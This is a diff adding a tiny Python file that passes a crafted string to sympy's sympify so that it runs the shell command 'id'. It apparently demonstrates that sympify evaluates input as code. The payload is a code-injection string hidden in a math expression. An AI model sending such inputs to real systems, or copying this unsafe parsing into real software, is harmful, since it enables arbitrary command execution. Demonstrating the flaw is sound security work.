@@ -1,0 +1,3 @@
+from sympy import sympify
+
+sympify("__import__('os').system('id')")
